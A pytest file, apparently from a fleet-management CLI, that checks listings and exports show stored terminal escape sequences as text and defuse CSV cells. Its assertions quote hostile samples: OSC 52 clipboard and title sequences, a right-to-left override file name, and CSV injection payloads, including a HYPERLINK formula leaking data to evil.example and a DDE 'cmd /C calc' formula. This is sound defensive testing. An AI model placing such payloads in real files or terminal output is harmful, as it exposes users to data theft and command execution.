"""Stored text on the command line: every listing, show, export, audit and jobs command
on a fleet whose every text field holds the STORED_TEXT corpus. Nothing it prints
emits a control character (shown as ``\\e]52…`` instead), JSON stays exact and valid,
and every CSV cell is defused unless ``--raw-csv`` asks for the exact value."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.hostile import stored
from tests.hostile.corpus import STORED_TEXT
from tests.hostile.helpers import assert_no_crash, copy_db, run_cli

TEXTS = [c["text"] for c in STORED_TEXT]


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> stored.StoredFleet:
    from simdeck.core import auth

    folder = tmp_path_factory.mktemp("stored")
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(auth, "os_user", lambda: "admin")
        return stored.build(folder / "template.db", folder)


@pytest.fixture
def fleet(template: stored.StoredFleet, tmp_path: Path) -> stored.StoredFleet:
    path = copy_db(template.path, tmp_path / "simdeck.db")
    return stored.StoredFleet(path, tmp_path, template.endpoints, template.groups,
                              template.job, template.events_file)


def listings(fleet: stored.StoredFleet) -> list[list[str]]:
    """Every command that prints stored text, without its --format."""
    job = str(fleet.job)
    commands = [
        ["endpoints", "list", "--limit", "0"],
        ["endpoints", "list", "--sort", "name"],
        ["groups", "list"],
        ["sims", "list", "--limit", "0"],
        ["audit", "--limit", "0"],
        ["jobs", "list"],
        ["jobs", "show", job],
        ["jobs", "skipped", job],
        ["users", "list"],
    ]
    commands += [["endpoints", "show", str(ep)] for ep in fleet.endpoints.values()]
    commands += [["audit", "--endpoint", str(ep)] for ep in fleet.endpoints.values()]
    return commands


@pytest.mark.parametrize("fmt", ["table", "json", "csv"])
def test_no_listing_emits_a_control_character(fleet: stored.StoredFleet, fmt: str) -> None:
    shown_escape = False
    for argv in listings(fleet):
        where = " ".join(argv[:2]) + f" --format {fmt}"
        # As to a terminal: click would otherwise strip some escape sequences itself.
        result = run_cli(fleet.path, [*argv, "--format", fmt], color=True)
        assert_no_crash(result)
        assert result.exit_code == 0, (where, result.output)
        stored.assert_nothing_emitted(result.stdout, where)
        stored.assert_nothing_emitted(result.stderr, where)
        if fmt == "json":
            json.loads(result.stdout)
        if fmt == "csv":
            stored.assert_defused(stored.csv_cells(result.stdout), where)
        escape = "\\u001b]52;c;ZXZpbA==\\u0007" if fmt == "json" else "\\e]52;c;ZXZpbA==\\x07"
        shown_escape = shown_escape or escape in result.stdout
    assert shown_escape, "the OSC 52 sequence is not shown as an escape anywhere"


def test_a_table_shows_each_sequence_in_words(fleet: stored.StoredFleet) -> None:
    ep = fleet.endpoints["osc52-clipboard"]
    out = run_cli(fleet.path, ["endpoints", "show", str(ep)], color=True).stdout
    assert "batch \\e]52;c;ZXZpbA==\\x07.csv" in out
    listing = run_cli(fleet.path, ["endpoints", "list", "--limit", "0"]).stdout
    for shown in ("\\e[2J\\e[H cleared", "c1 \\x9b31m red", "invoice \\u202efdp.exe",
                  "Truck [/] 7", "[@click=app.quit]quit[/]"):
        assert shown in listing, shown


def test_json_keeps_the_exact_values_escaped(fleet: stored.StoredFleet) -> None:
    result = run_cli(fleet.path, ["endpoints", "list", "--format", "json", "--limit", "0"])
    assert "\\u001b]52;c;ZXZpbA==\\u0007" in result.stdout
    assert "\\u009b31m" in result.stdout and "\\u202efdp" in result.stdout
    names = {item["name"] for item in json.loads(result.stdout)}
    assert set(TEXTS) <= names


def test_the_audit_shows_the_batch_file_name_as_text(fleet: stored.StoredFleet) -> None:
    result = run_cli(fleet.path, ["audit", "--action", "sims_imported"], color=True)
    assert result.exit_code == 0, result.output
    stored.assert_nothing_emitted(result.stdout, "audit")
    assert "file=" in result.stdout and "\\e]52;c;ZXZpbA==\\x07" in result.stdout


def test_jobs_show_prints_the_stored_search_as_text(fleet: stored.StoredFleet) -> None:
    result = run_cli(fleet.path, ["jobs", "show", str(fleet.job)], color=True)
    assert result.exit_code == 0, result.output
    stored.assert_nothing_emitted(result.output, "jobs show")
    assert "\\e]0;owned\\x07 title" in result.stdout


@pytest.mark.parametrize("fmt", ["table", "json", "csv"])
def test_network_ingest_errors_quote_the_fields_as_text(
    fleet: stored.StoredFleet, fmt: str
) -> None:
    assert fleet.events_file is not None
    result = run_cli(fleet.path, ["network", "ingest", str(fleet.events_file), "--format", fmt],
                     color=True)
    assert_no_crash(result)
    assert result.exit_code == 2, result.output
    stored.assert_nothing_emitted(result.stdout, "network ingest")
    stored.assert_nothing_emitted(result.stderr, "network ingest")
    assert "\\e]52" in result.stderr


def test_refused_input_is_quoted_as_text(fleet: stored.StoredFleet) -> None:
    """An argument holding a sequence: refused or not, it comes back shown, never sent."""
    for text in TEXTS:
        for argv in (["endpoints", "list", "--search", text], ["groups", "create", text],
                     ["endpoints", "show", text], ["audit", "--actor", text],
                     ["endpoints", "list", "--state", text]):
            result = run_cli(fleet.path, argv, color=True)
            assert_no_crash(result)
            stored.assert_nothing_emitted(result.stdout, " ".join(argv[:2]))
            stored.assert_nothing_emitted(result.stderr, " ".join(argv[:2]))


def test_export_defuses_every_cell(fleet: stored.StoredFleet) -> None:
    target = fleet.folder / "out.csv"
    result = run_cli(fleet.path, ["export", str(target)])
    assert result.exit_code == 0, result.output
    rows = stored.csv_cells(target.read_text(encoding="utf-8"))
    stored.assert_defused(rows, "export FILE")
    names = {row[rows[0].index("name")] for row in rows[1:]}
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")" in names
    assert "'+cmd|'/C calc'!A0" in names and "'-1+1+cmd|' /C calc'!A0" in names
    assert "batch \\e]52;c;ZXZpbA==\\x07.csv" in names
    stdout = run_cli(fleet.path, ["export", "-"], color=True)
    stored.assert_nothing_emitted(stdout.stdout, "export -")
    stored.assert_defused(stored.csv_cells(stdout.stdout), "export -")


def test_skipped_export_defuses_every_cell(fleet: stored.StoredFleet) -> None:
    target = fleet.folder / "skipped.csv"
    result = run_cli(fleet.path, ["jobs", "skipped", str(fleet.job), "--output", str(target)])
    assert result.exit_code == 0, result.output
    stored.assert_defused(stored.csv_cells(target.read_text(encoding="utf-8")), "skipped")


def test_raw_csv_writes_the_exact_values(fleet: stored.StoredFleet) -> None:
    target = fleet.folder / "raw.csv"
    result = run_cli(fleet.path, ["export", str(target), "--raw-csv"])
    assert result.exit_code == 0, result.output
    rows = stored.csv_cells(target.read_text(encoding="utf-8"))
    names = {row[rows[0].index("name")] for row in rows[1:]}
    assert set(TEXTS) <= names
    listed = run_cli(fleet.path, ["groups", "list", "--format", "csv", "--raw-csv"])
    assert listed.exit_code == 0, listed.output
    groups = stored.csv_cells(listed.stdout)
    assert {t[:64] for t in TEXTS} <= {row[groups[0].index("name")] for row in groups[1:]}
